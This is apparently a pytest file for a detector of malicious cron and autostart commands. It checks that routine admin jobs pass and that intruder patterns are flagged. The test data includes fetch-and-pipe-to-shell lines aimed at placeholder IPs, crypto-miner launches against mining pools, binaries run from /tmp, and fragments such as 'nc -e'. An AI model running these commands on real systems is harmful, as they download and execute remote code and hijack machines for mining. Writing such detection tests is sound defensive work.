"""Commands of autostarts: what intruders write stands out, what owners write does not."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from davy.knowledge.commands import suspicious_command
from davy.model.findings import Aspect

HONEST = (
    "cd / && run-parts --report /etc/cron.hourly",
    "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
    "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
    "if [ -x /usr/share/mdadm/checkarray ] && [ $(date +%d) -le 7 ]; then /usr/share/mdadm/checkarray --cron --all; fi",
    "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
    "test -e /run/systemd/system || SERVICE_MODE=1 /usr/libexec/e2fsprogs/e2scrub_all_cron",
    "test -x /usr/bin/certbot && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew",
    '"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null',
    "cd /srv/shop && php artisan schedule:run >> /dev/null 2>&1",
    "/usr/bin/flock -n /tmp/sync.lock /usr/local/bin/sync.sh",
    "/home/ada/.pyenv/versions/3.12.1/bin/python /home/ada/jobs/report.py",
    ". $HOME/.profile; /home/ada/bin/report --mail",
    "source ~/.bashrc && conda run -n base python /srv/etl.py",
    "/home/ada/.nvm/versions/node/v20.1.0/bin/node /srv/bot.js",
    "mysqldump --all-databases | gzip > /backup/db-$(date +\\%F).sql.gz",
    "rsync -a --delete /srv/ backup@backup.example.org:/srv/ >/tmp/rsync.log 2>&1",
    "find /tmp -type f -mtime +7 -delete",
    "find /var/tmp -name '*.tmp' -exec rm {} +",
    "curl -fsS -m 10 --retry 5 https://hc-ping.com/00000000-0000-0000-0000-000000000000 > /dev/null",
    "wget -q -O /dev/null https://example.org/cron.php?key=1",
    "wget -O - -q -t 1 http://localhost/cron.php",
    "curl -s https://www.cloudflare.com/ips-v4 -o /etc/nginx/ips && systemctl reload nginx",
    "curl -s http://127.0.0.1:9200/_cluster/health | jq .status | mail -s es ops@example.org",
    "curl -s https://api.example.org/x | python3 /srv/store.py",
    "pgrep -x nginx > /dev/null || systemctl start nginx",
    "pgrep -f kdevtmpfsi | xargs -r kill -9",
    "pkill -9 kdevtmpfsi; rm -f /tmp/kdevtmpfsi /var/tmp/kinsing",
    "ps aux | grep kinsing | grep -v grep | awk '{print $2}' | xargs -r kill -9",
    "tar czf /backup/home.tgz /home/ada/.config /home/ada/.ssh",
    "/usr/bin/docker run --rm -v /tmp:/tmp backup:latest",
    "/usr/sbin/sshd -D",
    "/usr/bin/redis-server /etc/redis/redis.conf --supervised systemd",
    "/usr/local/bin/gitlab-runner run --working-directory /home/gitlab-runner",
    "/bin/sh -c 'exec /usr/sbin/nginx -g \"daemon off;\"'",
    "nice -n 19 ionice -c3 updatedb",
    "openssl speed -multi 2",
    "davy scan --json > /var/log/davy.json",
    "@daily /usr/bin/fstrim -av",
    "",
)


@pytest.mark.parametrize("command", HONEST)
def test_honest_commands_have_no_shape(command: str) -> None:
    assert suspicious_command(command) == ()


@pytest.mark.parametrize(
    ("command", "shape"),
    [
        ("sh /tmp/.x/run.sh", "runs a hidden program from a writable folder"),
        ("sudo -u nobody bash -c 'cd /dev/shm; ./a'", "runs from a writable folder"),
        ("A=1 nohup setsid /var/tmp/kinsing > /dev/null 2>&1 &", "runs from a writable folder"),
        ("if true; then /tmp/x; fi", "runs from a writable folder"),
        ("(/tmp/x)", "runs from a writable folder"),
        ("/usr/bin/env -S '/tmp/x -q'", "runs from a writable folder"),
        ("su - bob -c /tmp/x", "runs from a writable folder"),
        ("python3 -u '/tmp/a b.py'", "runs from a writable folder"),
        ("ls\n/tmp/x", "runs from a writable folder"),
        ("/tmp/x86_64 ssh.selfrep", "runs from a writable folder"),
        ("cd /tmp && ./screen -q", "runs from a writable folder"),
        ("unshare -m /tmp/x", "runs from a writable folder"),
        ("find /etc -maxdepth 0 -exec /tmp/x \\;", "runs from a writable folder"),
        ("screen -dmS a /tmp/x", "runs from a writable folder"),
        ("/root/.cache/screen -o stratum+tcp://192.0.2.1:3333", "mines"),
        ("/bin/busybox wget -qO- http://192.0.2.1/x|/bin/busybox sh", "fetched into a shell"),
        ("/opt/a --donate-level=1 -o pool.supportxmr.com:443", "mines"),
    ],
)
def test_shape_is_seen_through_shell_grammar(command: str, shape: str) -> None:
    assert shape in {match.id for match in suspicious_command(command)}


def test_strongest_shape_comes_first_and_shows_what_it_saw() -> None:
    matches = suspicious_command("* (curl -fsSL http://192.0.2.7/i.sh||wget -q -O- http://192.0.2.7/i.sh)|sh")
    assert [match.bits for match in matches] == sorted((match.bits for match in matches), reverse=True)
    assert matches[0].id == "fetched into a shell"
    assert matches[0].technique == "T1105"
    assert "wget -q" in matches[0].text


def test_shapes_of_one_line_are_of_several_aspects() -> None:
    matches = suspicious_command("(curl -fsSL http://192.0.2.7/i.sh||wget -q -O- http://192.0.2.7/i.sh)|sh")
    assert {match.aspect for match in matches} == {Aspect.PERSISTENCE, Aspect.NETWORK}


def test_comments_run_nothing() -> None:
    assert suspicious_command("# /tmp/x\n/usr/bin/true # ; /tmp/y") == ()


def test_only_the_first_64_kib_are_looked_at() -> None:
    assert suspicious_command("a" * (64 << 10) + " ; /tmp/x") == ()


@given(st.text(max_size=300))
def test_any_text_is_taken(text: str) -> None:
    for match in suspicious_command(text):
        assert match.bits > 0
        assert len(match.text) <= 200


@pytest.mark.parametrize(
    "piece",
    [
        "curl ", "curl /tmp/ ", "curl a|b", "curl a||", "curl 1.1.1.1/", "a", "'\"", '\\"', "base64 -d ", "echo AAAA",
        "exec(", "urlopen(", "sh -i ", "nc a ", "nc -e ", "/./", "/.a", "pgrep x ", "|", "chattr +i ", "> ", ">.ssh/",
        "sh $(", "abcdefghijklmnopq.", "\0", "cd /tmp;./x;", "sudo -a ", "env -1 ", "A=1 ", "sh -c '", "eval ",
        "1.1.1.1.", "a{", "\n",
    ],
)  # fmt: skip
def test_hostile_text_costs_little_time(piece: str) -> None:
    text = (piece * (1 << 17))[: 1 << 17]
    start = time.process_time()
    suspicious_command(text)
    assert time.process_time() - start < 2.0
